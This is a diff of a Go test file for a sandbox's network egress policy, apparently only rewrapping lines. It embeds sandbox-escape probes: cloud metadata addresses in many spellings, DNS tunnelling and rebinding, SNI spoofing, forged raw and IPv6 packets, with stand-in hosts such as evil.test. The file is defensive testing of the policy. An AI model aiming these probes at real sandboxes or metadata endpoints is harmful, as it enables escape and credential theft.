@@ -14,28 +14,38 @@ import (
 func attackCases(hostPort int) []attackCase {
 	full := sandbox.NetworkPolicy{Mode: sandbox.NetworkFull}
 	everything := sandbox.NetworkPolicy{Mode: sandbox.NetworkRestricted, Allow: []string{"0.0.0.0/0", "::/0"}}
-	r := strings.NewReplacer("HOSTPORT", strconv.Itoa(hostPort), "HOST6", egresstest.HostAddress6, "HOST", egresstest.HostAddress, "SITE", site, "RESOLVER", egresstest.Resolver)
+	r := strings.NewReplacer("HOSTPORT", strconv.Itoa(hostPort), "HOST6", egresstest.HostAddress6, "HOST",
+		egresstest.HostAddress, "SITE", site, "RESOLVER", egresstest.Resolver)
 	cases := []attackCase{
-		{name: "metadata", policy: full, code: attackMetadata, asks: []string{"metadata.test", "nat.test", "six.test", "metadata.google.internal", "instance-data"},
+		{name: "metadata", policy: full, code: attackMetadata, asks: []string{"metadata.test", "nat.test", "six.test",
+			"metadata.google.internal", "instance-data"},
 			passes: []string{"tcp [2606:2800:220:1::1]:80"}},
-		{name: "metadata, restricted", policy: allow("metadata.test", "nat.test", "six.test"), code: attackMetadata, asks: []string{"metadata.test", "nat.test", "six.test"},
+		{name: "metadata, restricted", policy: allow("metadata.test", "nat.test", "six.test"), code: attackMetadata,
+			asks:   []string{"metadata.test", "nat.test", "six.test"},
 			passes: []string{"tcp [2606:2800:220:1::1]:80"}},
 		{name: "metadata, every prefix allowed", policy: everything, code: attackMetadata, passes: nil},
-		{name: "rebinding", policy: allow("rebind.test:80"), code: attackRebinding, passes: []string{webOfSite}, asks: []string{"rebind.test"}},
+		{name: "rebinding", policy: allow("rebind.test:80"), code: attackRebinding, passes: []string{webOfSite},
+			asks: []string{"rebind.test"}},
 		{name: "DNS tunnels", policy: allow("good.test", "*.wild.test"), code: attackTunnels, asks: []string{"good.test"}},
-		{name: "SNI", policy: allow("good.test", "evil.test:99"), code: attackSNI, passes: []string{tlsOfSite}, asks: []string{"good.test", "evil.test"}, prints: "good 1\n"},
-		{name: "CONNECT", policy: allow("good.test"), code: attackConnect, passes: []string{"syn " + site + ":3128", "syn " + site + ":80", "syn " + site + ":8080"},
+		{name: "SNI", policy: allow("good.test", "evil.test:99"), code: attackSNI, passes: []string{tlsOfSite},
+			asks: []string{"good.test", "evil.test"}, prints: "good 1\n"},
+		{name: "CONNECT", policy: allow("good.test"), code: attackConnect,
+			passes: []string{"syn " + site + ":3128", "syn " + site + ":80", "syn " + site + ":8080"},
+			asks:   []string{"good.test"}},
+		{name: "redirects", policy: allow("good.test"), code: attackRedirects, passes: []string{webOfSite},
 			asks: []string{"good.test"}},
-		{name: "redirects", policy: allow("good.test"), code: attackRedirects, passes: []string{webOfSite}, asks: []string{"good.test"}},
 		{name: "redirects, full", policy: full, code: attackRedirects, passes: []string{webOfSite, "tcp 93.184.216.66:80"},
 			asks: []string{"good.test", "evil.test", "host.test", "lo.test", "metadata.test"}},
-		{name: "UDP", policy: allow("good.test:443", "93.184.216.50:99", "93.184.216.51:443"), code: attackUDP, passes: []string{"fragment 93.184.216.50", "udp 93.184.216.50:99"}, asks: []string{"good.test"}},
+		{name: "UDP", policy: allow("good.test:443", "93.184.216.50:99", "93.184.216.51:443"), code: attackUDP,
+			passes: []string{"fragment 93.184.216.50", "udp 93.184.216.50:99"}, asks: []string{"good.test"}},
 		{name: "ICMP", policy: full, code: attackICMP},
 		{name: "raw packets", policy: full, code: attackRaw},
 		{name: "IPv6", policy: full, code: attackIPv6, passes: []string{"udp [2606:4700::1]:80"}},
 		{name: "the host", policy: everything, code: attackHost},
-		{name: "the host, by name", policy: allow("host.test", "lo.test"), code: attackHost, asks: []string{"host.test", "lo.test"}},
-		{name: "range edges", policy: sandbox.NetworkPolicy{Mode: sandbox.NetworkRestricted, Allow: []string{"0.0.0.0/0", "::/0"}, Deny: []string{"93.184.216.0/24", "93.184.217.255"}},
+		{name: "the host, by name", policy: allow("host.test", "lo.test"), code: attackHost,
+			asks: []string{"host.test", "lo.test"}},
+		{name: "range edges", policy: sandbox.NetworkPolicy{Mode: sandbox.NetworkRestricted,
+			Allow: []string{"0.0.0.0/0", "::/0"}, Deny: []string{"93.184.216.0/24", "93.184.217.255"}},
 			code: attackEdges, passes: []string{"syn 93.184.218.0:80", "tcp 93.184.215.255:80", "tcp 93.184.217.254:80"}},
 	}
 	for i := range cases {
@@ -44,7 +54,8 @@ func attackCases(hostPort int) []attackCase {
 	return cases
 }
 
-// attackMetadata tries metadata services in every spelling: of addresses, of numbers that some resolver reads as addresses, of names.
+// attackMetadata tries metadata services in every spelling: of addresses, of numbers that some resolver reads as
+// addresses, of names.
 const attackMetadata = `
 for a in ["169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "::ffff:169.254.169.254", "::ffff:0:169.254.169.254", "::169.254.169.254",
           "64:ff9b::169.254.169.254", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001::a9fe:a9fe", "fd00:ec2::254", "fd20:ce::254", "fe80::a9fe:a9fe"]:
@@ -65,7 +76,8 @@ for a in known:
     for port in 80, HOSTPORT: tcp(a, port, request)
 `
 
-// attackTunnels asks for names that carry data, of every type, by every way to a resolver. What is below an allowed name may be asked for.
+// attackTunnels asks for names that carry data, of every type, by every way to a resolver. What is below an allowed
+// name may be asked for.
 const attackTunnels = `
 def query(name, kind=16, flags=0x0100, extra=b""):
     labels = b"".join(bytes([len(l)]) + l for l in name.encode("latin1").split(b".")) + b"\0"
@@ -89,7 +101,8 @@ for to in "RESOLVER", "8.8.8.8", "1.1.1.1", "2001:4860:4860::8888":
     udp(to, 53, q); tcp(to, 53, struct.pack("!H", len(q)) + q); tcp(to, 853); udp(to, 853); tcp(to, 443, b"GET /dns-query?dns=x HTTP/1.1\r\nHost: good.test\r\n\r\n")
 `
 
-// attackSNI lies about the name: in TLS, in no TLS at all, and where the address is another's. One connection is as it should be.
+// attackSNI lies about the name: in TLS, in no TLS at all, and where the address is another's. One connection is as it
+// should be.
 const attackSNI = `
 import ssl
 look("good.test"); look("evil.test")
@@ -155,7 +168,8 @@ big = icmp(8, data=bytes(9000))
 for at in range(0, len(big), 1400): frame(ip4("8.8.8.8", 1, big[at:at + 1400], fragment=at // 8 | (0x2000 if at + 1400 < len(big) else 0)))
 `
 
-// attackRaw sends frames and packets that no program could: forged, cut, in other protocols, with options that carry them elsewhere.
+// attackRaw sends frames and packets that no program could: forged, cut, in other protocols, with options that carry
+// them elsewhere.
 const attackRaw = `
 for protocol in list(range(256)):
     if protocol not in (6, 17): frame(ip4("SITE", protocol, b"canary" * 8)); frame(ip6("2606:4700::1", protocol, b"canary" * 8), 0x86dd)
@@ -175,8 +189,8 @@ for op in 1, 2, 3, 8:
 for n in range(50): wire.send(os.urandom(14 + n * 20))
 `
 
-// attackIPv6 tries what IPv6 adds: extension headers, other forms of IPv4, scopes, forged sources. A fragment that is a whole
-// datagram may go where a datagram may.
+// attackIPv6 tries what IPv6 adds: extension headers, other forms of IPv4, scopes, forged sources. A fragment that is a
+// whole datagram may go where a datagram may.
 const attackIPv6 = `
 for a in ["::1", "::", "::ffff:127.0.0.1", "fe80::1", "fec0::1", "fd00:676c:6f76::2", "fd00::1", "ff02::1", "ff0e::1", "2002:7f00:1::", "64:ff9b::7f00:1", "2001:db8::1", "100::1", "HOST6"]:
     tcp(a, HOSTPORT); udp(a, HOSTPORT)
